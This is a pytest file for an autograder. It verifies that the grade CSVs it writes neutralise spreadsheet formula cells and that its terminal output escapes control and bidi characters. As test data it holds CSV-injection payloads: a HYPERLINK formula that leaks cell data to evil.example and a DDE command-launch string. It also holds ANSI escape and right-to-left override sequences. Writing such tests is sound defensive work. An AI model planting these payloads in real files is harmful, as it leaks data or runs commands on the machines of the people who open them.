"""What the grader hands the instructor's tools: no CSV cell a spreadsheet runs as a formula
(issue 17, item 11), no raw control character on the terminal (item 12).

Students choose their folder and file names, and through them their student ids; failure
reasons quote what they wrote. ``=HYPERLINK(...)`` in a cell of ``grades.csv`` is a live link
(or worse) when the instructor opens it in a spreadsheet; ``ESC [2J`` or U+202E in a file name
printed raw clears or reorders the instructor's terminal.
"""

from __future__ import annotations

import csv
import unicodedata
from pathlib import Path

import pytest

from autograder.chapter_spec import ChapterSpec, ExerciseSpec
from autograder.cli import main
from autograder.printable import printable
from autograder.report import csvsafe
from autograder.report.lms import write_lms_files
from autograder.report.similarity import (
    MIN_SHARED,
    THRESHOLD,
    Document,
    Flag,
    SimilarityReport,
    compare_exercise,
    write_report,
)
from autograder.report.tables import write_grades_csv, write_report_csv
from autograder.results import ExerciseOutcome, FileRow, GradeResult
from tests.adversarial.chapters import FIXTURE, FIXTURES, released_copy

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting with = + - @ tab or CR that is not a
    plain number (a leading ``'`` makes any cell text)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not csvsafe._NUMBER.fullmatch(cell)
COPIED = """def b(scores, mask):
    weights = scores.masked_fill(~mask, float("-inf"))
    weights = weights - weights.max(dim=-1, keepdim=True).values
    weights = weights.exp()
    return weights / weights.sum(dim=-1, keepdim=True)
"""
EXTRA = """

def helper(values, lengths):
    total = values.sum(dim=-1)
    return total / lengths.clamp(min=1)
"""


@pytest.fixture()
def spec() -> ChapterSpec:
    return ChapterSpec("01-seq2seq", "seq2seq", ["setup"], [
        ExerciseSpec("seq2seq.a", "a", "a", "a", "test_a", None, None, 2.0, "", ""),
        ExerciseSpec("seq2seq.b", "b", "b", "b", "test_b", None, None, 3.0, "", "")])


def test_every_csv_the_grader_writes_has_no_formula_cell(tmp_path: Path, spec: ChapterSpec
                                                        ) -> None:
    results = [GradeResult(sid, "", "", "", "hardened", total=2.0, max_total=5.0, exercises={
        "seq2seq.a": ExerciseOutcome("seq2seq.a", 2.0, 2.0, "passed"),
        "seq2seq.b": ExerciseOutcome("seq2seq.b", 0.0, 3.0, "failed")})
               for sid in [*HOSTILE, "s1001"]]
    write_grades_csv(tmp_path / "grades.csv", spec, results)
    write_report_csv(tmp_path / "report.csv", [
        FileRow(f"{sid}/seq2seq.ipynb", sid, "=folder", "could not grade", "-not a notebook", 1.5)
        for sid in HOSTILE])
    pair, _ = compare_exercise("seq2seq.b", {HOSTILE[3]: COPIED, "@bob": COPIED + EXTRA}, None,
                               "", THRESHOLD, MIN_SHARED)
    assert [f.kind for f in pair] == ["classmates"]
    write_report(tmp_path, spec, SimilarityReport(
        [Flag("seq2seq.a", Document(HOSTILE[:2], "def a(): pass"), None, 1.0, 1.0, 90), *pair],
        {"seq2seq.a": 2, "seq2seq.b": 2}, {}))
    write_lms_files(tmp_path, spec, results, {"s1001": {"name": "=cmd", "email": "@x",
                                                        "section": "-A1"}})
    written = sorted(p.name for p in tmp_path.glob("*.csv"))
    assert written == ["canvas_grades.csv", "grades.csv", "grades_long.csv", "moodle_grades.csv",
                       "report.csv", "similarity.csv"]
    for name in written:
        cells = _cells(tmp_path / name)
        assert not [c for c in cells if _runs_as_formula(c)], name
    ids = [row[0] for row in csv.reader(open(tmp_path / "grades.csv", newline=""))][1:]
    assert sorted(ids) == sorted(["'" + sid for sid in HOSTILE] + ["s1001"])  # text, not run
    long_ids = {row[0] for row in csv.reader(open(tmp_path / "grades_long.csv", newline=""))}
    assert "'" + HOSTILE[0] in long_ids
    with open(tmp_path / "report.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["student_id"] == "'" + HOSTILE[0] and row["mapping"] == "'=folder"
    assert row["reason"] == "'-not a notebook" and row["seconds"] == "1.5"
    similarity = list(csv.reader(open(tmp_path / "similarity.csv", newline="")))
    assert similarity[1][2] == "'" + ";".join(HOSTILE[:2])
    assert {similarity[2][2], similarity[2][3]} == {"'" + HOSTILE[3], "'@bob"}
    assert "'=cmd" in _cells(tmp_path / "canvas_grades.csv")


def test_numbers_stay_numbers_and_plain_text_is_unchanged() -> None:
    assert csvsafe.safe_row(["-1", "+2.5", "-1e-3", ".5", 7, 2.5, None, "s1001", "a=b", ""]) \
        == ["-1", "+2.5", "-1e-3", ".5", 7, 2.5, None, "s1001", "a=b", ""]
    assert csvsafe.safe_row(["-1+1", "=1", "- 1", "+", "-"]) \
        == ["'-1+1", "'=1", "'- 1", "'+", "'-"]
    import io

    f = io.StringIO()
    w = csvsafe.dict_writer(f, ["=a", "b"])
    w.writeheader()
    w.writerow({"=a": "=x"})
    assert f.getvalue().splitlines() == ["'=a,b", "'=x,"]
    with pytest.raises(ValueError, match="not in fieldnames"):
        w.writerow({"c": 1})


TERMINAL_HOSTILE = "\x1b]2;owned\x07\x1b[2J\x1b[31mred\x9b1m\x7f\u202egnp\u2066x\u200f\u2028y"


def test_printable_escapes_every_control_and_bidi_character() -> None:
    shown = printable(TERMINAL_HOSTILE + "\udce9\n")
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")]
    assert shown == ("\\x1b]2;owned\\x07\\x1b[2J\\x1b[31mred\\x9b1m\\x7f\\u202egnp\\u2066x"
                     "\\u200f\\u2028y\\udce9\\x0a")
    assert printable("Zoë 中文 plain") == "Zoë 中文 plain"


@pytest.mark.slow  # releases the fixture chapter with nbgrader (no sandbox runs)
def test_grade_prints_no_raw_control_character_and_writes_safe_csvs(
        tmp_path: Path, monkeypatch, capsys) -> None:
    """``python -m autograder grade`` on files named with terminal escapes and a student folder
    named as a formula: the closing summary shows the names escaped, the CSVs as text."""
    fixtures = FIXTURES
    chapter = released_copy(FIXTURE, tmp_path / "course")
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / f"{TERMINAL_HOSTILE}.ipynb").write_text("not json")
    (subs / "fixture.ipynb").write_text("{}")  # names nobody: listed with its reason
    formula = subs / '=HYPERLINK("evil.example?"&A1,"grades")'  # a folder name: no slash
    formula.mkdir()
    (formula / "fixture.ipynb").write_text("not json either")
    monkeypatch.setenv("AUTOGRADER_EXTRA_EXERCISES", str(fixtures / "exercises"))
    capsys.readouterr()
    main(["grade", "00", str(subs), "--out", str(tmp_path / "out"), "--no-progress",
          "--root", str(chapter.root)])
    out, err = capsys.readouterr()
    raw = [c for c in out + err
           if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
    assert not raw, f"raw control characters on the terminal: {raw!r}"
    assert "\\x1b]2;owned\\x07\\x1b[2J" in out and "\\u202egnp" in out
    assert "could not grade 3 file(s)" in out
    for name in ("grades.csv", "grades_long.csv", "report.csv", "canvas_grades.csv",
                 "moodle_grades.csv"):
        cells = _cells(tmp_path / "out" / name)
        assert not [c for c in cells if _runs_as_formula(c)], name
    assert "'" + formula.name in _cells(tmp_path / "out" / "grades.csv")
